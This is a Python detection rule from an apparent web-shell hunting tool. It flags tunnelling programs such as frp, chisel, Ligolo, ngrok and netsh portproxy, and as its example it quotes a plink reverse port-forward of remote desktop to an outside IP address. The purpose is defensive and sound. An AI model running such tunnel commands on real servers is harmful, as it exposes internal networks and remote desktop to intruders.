"""A program was started that leads connections through the server.

What it finds:
    Event 1 of Sysmon and event 4688 of the Security log: a program with the name or the arguments of a tunnel, such as
    frp, chisel, Ligolo, EarthWorm, ngrok, ``plink -R`` and ``netsh interface portproxy``.

Why it matters:
    A tunnel gives remote desktop and the inner network to the intruder, and stays after the web shell is removed.

Looks like:
    ``plink.exe -R 3389:127.0.0.1:3389 root@203.0.113.77``.

Benign look-alikes:
    Administrators who publish a service with ngrok or cloudflared, or use ``ssh -D``: unexplained.

Blind spots:
    Renamed programs that read their arguments from a file; servers that don't audit processes or their command lines.
"""

from webshellhunt.detectors.contract import Detector, define_rule
from webshellhunt.detectors.logged_claims import acts_detector
from webshellhunt.views.logged_acts import Idea

RULE = define_rule(__name__, "WSH7218", "critical", "high", "T1572", "T1090")

find: Detector = acts_detector(RULE, Idea.TUNNEL_STARTED, "a program made a tunnel through the server")
